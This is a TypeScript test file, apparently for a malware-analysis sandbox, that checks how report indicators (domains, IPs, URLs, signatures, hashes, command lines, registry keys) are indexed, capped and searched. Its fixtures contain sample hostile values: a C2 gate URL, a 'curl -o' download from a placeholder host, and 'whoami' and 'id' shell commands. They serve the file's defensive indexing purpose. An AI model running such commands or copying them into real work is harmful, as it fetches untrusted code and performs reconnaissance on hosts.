// The search index written at processing, in a running service: an analysis folder holding a real
// capture (tcpdump on a loopback address of this test's own, 127.91.17.x: DNS answered with a
// public address, an HTTP request by name), a behaviour log whose child shell fires a signature,
// and a dropped file, is processed by the engine; the API then finds the task by each of those
// terms. A rereport with another capture replaces the terms; a delete removes them; a run that
// contacts more addresses than the cap keeps the cap and says so on the task's timeline. The
// terms themselves (caps, hostile values) are checked on report objects below.
import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import path from 'node:path'
import Database from 'better-sqlite3'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { finishRun, startHarness, type Harness } from '../../../test/service-harness'
import { submitFile, waitForTask } from '../../../test/e2e/e2e-helpers'
import { captureLoopback } from '../../../test/loopback-capture'
import type { TaskSearchResult } from '../../shared/api/ui-schemas'
import { capNote, LEFT_OUT_COUNTED, reportTerms } from './report-terms'
import { INDICATOR_CAPS } from '../../shared/report-indicators'

const DROPPED = 'a file the sample dropped\n'
const sha = (algo: string, s: string) => createHash(algo).update(s).digest('hex')

describe('the index written when a report is', () => {
  let h: Harness
  let db: Database.Database
  let first: Buffer
  let second: Buffer

  const found = async (q: string): Promise<number[]> => {
    const { status, body } = await h.json<TaskSearchResult>(`/aviary/tasks?q=${encodeURIComponent(q)}&order=asc`)
    expect(status, q).toBe(200)
    return body.tasks.map((t) => t.id)
  }
  const termsOf = (id: number) => db.prepare('SELECT kind, term FROM task_terms WHERE task_id = ?').all(id) as { kind: string; term: string }[]
  const timeline = async (id: number) => (await h.json<{ timeline: { stage: string; message: string | null }[] }>(`/tasks/timeline/${id}`)).body.timeline

  /** A task as a finished run leaves it; the engine processes it. */
  async function processed(name: string, files: Record<string, string | Buffer>): Promise<number> {
    const id = await submitFile(h, name, `#!/bin/sh\necho ${name}\n`)
    finishRun(h, id, files)
    expect(await waitForTask(h, id, ['reported', 'failed_processing'], 30_000)).toBe('reported')
    return id
  }

  beforeAll(async () => {
    first = await captureLoopback('127.91.17.1', {
      resolve: ['c2.evil-search.example', 'cdn.shared-search.example'], answer: '203.0.113.77',
      fetch: ['http://c2.evil-search.example/gate.php?id=7']
    })
    second = await captureLoopback('127.91.17.2', { resolve: ['other-search.example'], answer: '198.51.100.23', fetch: [] })
    h = await startHarness({ engine: true, machines: { machines: [] } })
    db = new Database(path.join(h.dataDir, 'aviary.db'), { readonly: true })
  }, 60_000)
  afterAll(async () => {
    db?.close()
    await h?.stop()
  })

  it('finds the task by the domains, addresses, URL, signature and dropped file of its real capture and logs', async () => {
    const now = Date.now()
    const behavior = [
      { type: 'analyzer', version: 1, package: 'sh', task: 1, time: now },
      { type: 'process', pid: 10, ppid: 1, command_line: 'sh /tmp/dropper.sh', exe: '/bin/sh', first_seen: now, exited: now + 5 },
      { type: 'process', pid: 11, ppid: 10, command_line: 'sh -c id', exe: '/bin/sh', first_seen: now + 1, exited: now + 2 }
    ].map((e) => JSON.stringify(e)).join('\n') + '\n'
    const id = await processed('dropper.sh', {
      'dump.pcap': first,
      'logs/behavior.jsonl': behavior,
      'files/0123456789abcdef_note.txt': DROPPED,
      'files.json': JSON.stringify({ path: 'files/0123456789abcdef_note.txt', filepath: '/tmp/note.txt', pids: [10] }) + '\n'
    })
    const report = (await h.json<{ network: { domains: { domain: string }[] }; signatures: { name: string }[] }>(`/tasks/report/${id}`)).body
    expect(report.network.domains.map((d) => d.domain)).toEqual(['c2.evil-search.example', 'cdn.shared-search.example'])
    expect(report.signatures.map((s) => s.name)).toContain('starts_shell')

    for (const q of ['domain:c2.evil-search.example', 'domain:evil-search.example', 'domain:example', 'cdn.shared-search.example',
      'ip:203.0.113.77', 'ip:127.91.17.1', '203.0.113.77', 'url:http://c2.evil-search.example/gate.php?id=7',
      'url:c2.evil-search.example/gate.php', 'c2.evil-search.example/gate.php', 'sig:starts_shell', 'sig:starts', 'starts_shell',
      `hash:${sha('md5', DROPPED)}`, `hash:${sha('sha1', DROPPED)}`, `hash:${sha('sha256', DROPPED).slice(0, 10)}`, sha('sha256', DROPPED),
      'domain:evil-search.example sig:starts_shell ip:203.0.113.77']) {
      expect(await found(q), q).toEqual([id])
    }
    expect(await found('domain:other-search.example')).toEqual([])

    // A rereport is processed again with what the folder holds now: its terms are replaced.
    writeFileSync(path.join(h.analysisDir(id), 'dump.pcap'), second)
    expect((await h.json<{ success: boolean }>(`/tasks/rereport/${id}`)).body.success).toBe(true)
    expect(await waitForTask(h, id, ['reported', 'failed_processing'], 30_000)).toBe('reported')
    await expect.poll(() => found('domain:other-search.example'), { timeout: 10_000 }).toEqual([id])
    expect(await found('domain:evil-search.example')).toEqual([])
    expect(await found('ip:198.51.100.23')).toEqual([id])
    expect(await found('sig:starts_shell')).toEqual([id]) // the logs did not change

    // Deleted: its terms go with it.
    expect(termsOf(id).length).toBeGreaterThan(5)
    expect((await h.get(`/tasks/delete/${id}`)).status).toBe(200)
    expect(termsOf(id)).toEqual([])
    expect(await found('domain:other-search.example')).toEqual([])
  }, 120_000)

  it('keeps at most the cap of a run that contacted more addresses, and says so on the timeline', async () => {
    const now = Date.now()
    const connections = Array.from({ length: 1500 }, (_, i) =>
      ({ type: 'connection', proto: 'tcp', src: '10.0.0.2', sport: 40000, dst: `11.${(i >> 8) & 255}.${i & 255}.9`, dport: 443, pid: 10, time: now }))
    const id = await processed('scanner.sh', {
      'logs/behavior.jsonl': [{ type: 'process', pid: 10, ppid: 1, command_line: 'sh scanner.sh', exe: '/bin/sh', first_seen: now, exited: now + 5 }, ...connections]
        .map((e) => JSON.stringify(e)).join('\n') + '\n'
    })
    const ips = termsOf(id).filter((t) => t.kind === 'ip')
    expect(ips).toHaveLength(INDICATOR_CAPS.addresses)
    expect(await found('ip:11.0.0.9')).toEqual([id]) // among the first seen
    expect(await found('ip:11.5.219.9')).toEqual([]) // the 1,500th: left out
    const reported = (await timeline(id)).find((e) => e.stage === 'reported')
    expect(reported?.message).toMatch(/; search index: 1,000 addresses kept, 500 more left out$/)
  }, 60_000)
})

describe('the terms of a report', () => {
  it('keeps a million domains to the cap, whole domains with their parents, and says what it left out', () => {
    const domains = Array.from({ length: 1_000_000 }, (_, i) => ({ domain: `h${i}.flood.example`, ip: '' }))
    const t0 = Date.now()
    const t = reportTerms({ network: { domains } })
    expect(Date.now() - t0).toBeLessThan(20_000) // bounded work, not a timing figure
    const kept = t.terms.filter((x) => x.kind === 'domain').map((x) => x.term)
    // The cap counts domains; each kept one brings its parents (here the same two for all).
    expect(kept).toHaveLength(INDICATOR_CAPS.domains + 2)
    expect(kept).toEqual(expect.arrayContaining(['h0.flood.example', 'flood.example', 'example']))
    // Counted one by one up to LEFT_OUT_COUNTED distinct values, then "over".
    expect(t.capped.domains).toEqual({ kept: INDICATOR_CAPS.domains, leftOut: LEFT_OUT_COUNTED, over: true })
    expect(capNote(t)).toBe('search index: 3,000 domains kept, over 100,000 more left out')
    const few = reportTerms({ network: { domains: domains.slice(0, 5000) }, behavior: { summary: { resolves_host: domains.slice(0, 5000).map((d) => d.domain) } } })
    expect(few.capped.domains).toEqual({ kept: INDICATOR_CAPS.domains, leftOut: 5000 - INDICATOR_CAPS.domains, over: false }) // seen twice, counted once
  })

  it('finds the URLs written in the sample and its dropped files by url:, not as domains the run met', () => {
    const t = reportTerms({
      target: { category: 'file', file: { urls: ['http://Static.Example/Payload.exe?x=1', 7, 'not a url'] } },
      dropped: [{ urls: ['https://dropped.example/stage2'] }, { urls: 'x' }],
      static: { pdf: [{ urls: ['http://pdf-action.example/open'], javascript: [{ urls: ['http://pdf-script.example/x'] }] }, 5] },
      network: { domains: [{ domain: 'met.example', ip: '' }] }
    })
    const urls = t.terms.filter((x) => x.kind === 'url').map((x) => x.term)
    expect(urls).toEqual(expect.arrayContaining(['static.example/payload.exe?x=1', 'static.example/payload.exe', 'dropped.example/stage2', 'pdf-action.example/open', 'pdf-script.example/x']))
    expect(t.terms.filter((x) => x.kind === 'domain').map((x) => x.term)).toEqual(['met.example', 'example'])
  })

  it('leaves out what cannot be a term, cuts long URLs, and tolerates sections of the wrong shape', () => {
    const t = reportTerms({
      network: {
        domains: [{ domain: 'a b.example' }, { domain: `${'x'.repeat(250)}.example` }, { domain: '1.2.3.4', ip: '1.2.3.4.5' }, { domain: 'ok.example.' },
          { domain: 'x.in-addr.arpa' }, { domain: 'ctrl\u0007.example' }],
        hosts: 'not a list', tcp: [null, 7, { dst: 'fe80::1%eth0' }, { dst: '::FFFF:1.2.3.4' }],
        http: [{ uri: `http://long.example/${'p'.repeat(4000)}`, host: 'long.example:8080' }], dead_hosts: [['198.51.100.9', 80], 'x']
      },
      signatures: [{ name: 42 }, { name: 'Persistence_Autorun', families: ['Family', 7] }],
      dropped: [{ md5: 'not-a-hash', sha1: 'A'.repeat(40), sha256: 'b'.repeat(63) }],
      target: { category: 'url', url: 'https://Target.example/Path?Q=1#frag' }
    })
    const of = (kind: string) => t.terms.filter((x) => x.kind === kind).map((x) => x.term).sort()
    expect(of('domain')).toEqual(['example', 'long.example', 'ok.example', 'target.example'])
    expect(of('ip')).toEqual(['1.2.3.4', '198.51.100.9', '::ffff:102:304'])
    expect(of('url')).toEqual([`long.example/${'p'.repeat(512 - 13)}`, 'target.example/path', 'target.example/path?q=1'])
    // A number where a name is expected is read as text, as Compare and the report views read it.
    expect(of('sig')).toEqual(['42', 'family', 'persistence', 'persistence_autorun'])
    expect(of('hash')).toEqual(['a'.repeat(40)])
    expect(t.capped).toEqual({})
  })

  it('finds what the run touched: files by path or name, command lines and programs, mutexes, registry keys', () => {
    const t = reportTerms({
      behavior: {
        summary: {
          file_written: ['/tmp/update.bin', 'C:\\Users\\a\\AppData\\Crontab.TXT'], file_moved: [['/tmp/a', '/tmp/b']], file_opened: 7,
          command_line: ['"C:\\Windows\\cmd.exe" /c whoami'], mutex: ['Global\\EvilMutex', '\u0007bad'],
          regkey_written: ['HKEY_CURRENT_USER\\Software\\Run\\x']
        },
        processes: [{ command_line: 'curl -o /tmp/x http://e.example/' }, { command_line: 3 }]
      },
      dropped: [{ name: 'notes.txt', filepath: '/home/u/.cache/notes.txt', sha256: 'c'.repeat(64) }]
    })
    const of = (kind: string) => t.terms.filter((x) => x.kind === kind).map((x) => x.term).sort()
    expect(of('file')).toEqual(['/home/u/.cache/notes.txt', '/tmp/a', '/tmp/b', '/tmp/update.bin', 'a', 'b', 'c:\\users\\a\\appdata\\crontab.txt',
      'crontab.txt', 'notes.txt', 'update.bin'])
    expect(of('command')).toEqual(['"c:\\windows\\cmd.exe" /c whoami', '3', 'c:\\windows\\cmd.exe', 'cmd.exe', 'curl', 'curl -o /tmp/x http://e.example/'])
    expect(of('mutex')).toEqual(['global\\evilmutex'])
    expect(of('key')).toEqual(['hkey_current_user\\software\\run\\x'])
  })
})
